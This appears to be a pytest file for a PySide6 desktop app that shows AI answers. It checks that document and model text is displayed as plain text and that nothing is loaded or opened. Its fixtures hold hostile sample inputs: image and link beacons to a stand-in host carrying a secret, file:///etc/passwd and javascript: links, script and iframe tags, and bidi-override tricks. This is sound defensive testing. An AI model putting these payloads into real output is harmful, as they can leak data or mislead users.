"""Whatever a document or a model writes: nothing is loaded, nothing of it can be pressed."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from asking import asked_and_done
from PySide6.QtCore import Qt, QUrl
from PySide6.QtGui import QDesktopServices, QTextDocument, QTextFormat, QTextFragment
from PySide6.QtWidgets import QLabel, QTextEdit, QToolTip, QWidget
from scripted_library import ScriptedLibrary, citation, hit

from desktop.ask.answer_text import AnswerText
from desktop.ask.quote_card import QuoteCard
from desktop.ask.view import AskView
from engine.answers import Answer, Claim, Support

TEXTS = {
    "markup": "<b>bold</b><h1>large</h1><table><tr><td>x</table><style>*{color:red}</style>",
    "remote picture": '<img src="http://collect.example/x.png?q=secret"> is the chart.',
    "local picture": '<img src="file:///etc/hostname"><img src="qrc:/x.png"> is the chart.',
    "picture in data": '<img src="data:image/png;base64,iVBORw0KGgo="> is the chart.',
    "picture in Markdown": "![chart](http://collect.example/x.png?q=secret) shows the rent.",
    "link": '<a href="http://collect.example/">rent</a> and [rent](http://collect.example/).',
    "bare address": "See http://collect.example/ or www.collect.example or mail@collect.example.",
    "script": '<script>x()</script><a href="javascript:x()">rent</a> [rent](javascript:x()).',
    "file link": '<a href="file:///etc/passwd">rent</a> [rent](file:///etc/passwd)',
    "links like our own": '<a href="citation:1">rent</a> [1] citation:1 why:0 [2](citation:2)',
    "frame and form": '<iframe src="http://collect.example/"></iframe><form><input></form>',
    "entities": "&lt;b&gt; &amp; &#x3c;img src=x&#x3e;",
    "long word": "rent" * 5_000,
    "turned around": "\u202egnp.exe\u202c and \u2067isolated\u2069 and \u200fmarks",
    "not drawn": "re\u200bnt\ufeff and \U000e0041\U000e0042 tags",
    "stand-in for objects": "a \ufffc picture \ufffd",
    "template": "{0} %1 %2 %s ${HOME} {{ rent }}",
}
_OURS = re.compile(r"citation:\d+|why:\d+")
_REMOTE = re.compile(r"<(?:img|a|script|iframe|form|input|style|table|h1)\b", re.IGNORECASE)


@pytest.fixture(autouse=True)
def nothing_is_opened(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[str]]:
    """Everything that asks for a resource, or for a program to open one, is written down."""
    asked: list[str] = []

    def load(self: QTextDocument, kind: int, name: QUrl) -> None:
        asked.append(name.toString())

    def loaded(self: AnswerText, kind: int, name: QUrl | str) -> None:
        asked.append(str(name))

    monkeypatch.setattr(QTextDocument, "loadResource", load)
    monkeypatch.setattr(AnswerText, "loadResource", loaded)
    monkeypatch.setattr(QDesktopServices, "openUrl", lambda url: asked.append(url.toString()))
    yield asked
    assert asked == []


def hostile(text: str) -> Answer:
    """An answer of one supported and one doubtful claim, both of them ``text``."""
    both = f"{text} {text}"
    quote = replace(citation(1, text), title=text, document=text, label=text[:40])
    claims = (
        Claim(text, 0, len(text), Support.SUPPORTED, (1,)),
        Claim(text, len(text) + 1, len(both), Support.UNSUPPORTED, (), text[:80]),
    )
    return Answer(text, (1,), both, claims, (quote,), notice=text[:200], model="model.gguf")


def fragments(text: QTextEdit) -> Iterator[QTextFragment]:
    block = text.document().begin()
    while block.isValid():
        at = block.begin()
        while not at.atEnd():
            yield at.fragment()
            at += 1
        block = block.next()


def check_text(text: QTextEdit) -> None:
    """No picture, frame or table, and no link but to our own numbers and markers."""
    for fragment in fragments(text):
        style = fragment.charFormat()
        assert not style.isImageFormat()
        assert style.objectType() == QTextFormat.ObjectTypes.NoObject.value
        if style.isAnchor():
            assert _OURS.fullmatch(style.anchorHref())
        else:
            assert style.anchorHref() == ""
    assert text.document().rootFrame().childFrames() == []


@pytest.mark.parametrize("kind", TEXTS)
def test_an_answer_shows_text_as_it_is(qtbot: Any, kind: str) -> None:
    text = TEXTS[kind]
    shown = AnswerText()
    qtbot.addWidget(shown)
    shown.resize(500, 300)
    shown.show()
    shown.append_text(text)
    assert shown.toPlainText() == text
    check_text(shown)
    shown.show_answer(hostile(text))
    assert shown.toPlainText().startswith(f"{text} [1]")
    assert shown.toPlainText().count(text) >= 2
    check_text(shown)
    shown.grab()
    links = [f.charFormat().anchorHref() for f in fragments(shown) if f.charFormat().isAnchor()]
    assert set(links) == {"citation:1", "why:1"}


@pytest.mark.parametrize(
    "url",
    ["http://collect.example/", "javascript:x()", "file:///etc/passwd", "citation:9", "data:,x"],
)
def test_an_answer_opens_nothing_but_its_own_numbers(qtbot: Any, url: str) -> None:
    shown = AnswerText()
    qtbot.addWidget(shown)
    shown.show_answer(hostile(TEXTS["link"]))
    opened: list[int] = []
    shown.citation_activated.connect(opened.append)
    before = shown.toPlainText()
    shown.anchorClicked.emit(QUrl(url))
    assert opened == []
    assert shown.toPlainText() == before
    shown.anchorClicked.emit(QUrl("citation:1"))
    assert opened == [1]


@pytest.mark.parametrize("kind", TEXTS)
def test_a_quote_card_shows_text_as_it_is(qtbot: Any, kind: str) -> None:
    text = TEXTS[kind]
    card = QuoteCard(hostile(text).citations[0])
    qtbot.addWidget(card)
    card.resize(400, card.heightForWidth(400))
    card.show()
    card.grab()
    assert card.heightForWidth(400) < 400
    assert _REMOTE.search(card.toolTip()) is None


@pytest.mark.parametrize("kind", TEXTS)
def test_a_conversation_holds_no_markup_of_documents(
    qtbot: Any, view: AskView, library: ScriptedLibrary, kind: str
) -> None:
    text = TEXTS[kind]
    answer = hostile(text)
    library.hits = (hit(1, text[:300]),)
    library.quotes = answer.citations
    library.pieces = (text,)
    library.answer = answer
    turn = asked_and_done(qtbot, view, library)
    view.grab()
    widgets = [turn, *turn.findChildren(QWidget)]
    for widget in widgets:
        assert _REMOTE.search(widget.toolTip()) is None
        if isinstance(widget, QLabel):
            told = widget.text()
            plain = widget.textFormat() is Qt.TextFormat.PlainText
            assert plain or _REMOTE.search(told) is None
            assert not widget.openExternalLinks()
        elif isinstance(widget, QTextEdit):
            check_text(widget)
    assert QToolTip.text() == "" or _REMOTE.search(QToolTip.text()) is None


def test_an_answer_looks_for_no_file_beside_it(qtbot: Any, tmp_path: Path) -> None:
    (tmp_path / "x.png").write_bytes(b"not a picture")
    shown = AnswerText()
    qtbot.addWidget(shown)
    shown.setSearchPaths([str(tmp_path)])
    shown.show_answer(hostile('<img src="x.png">'))
    shown.show()
    shown.grab()
    check_text(shown)
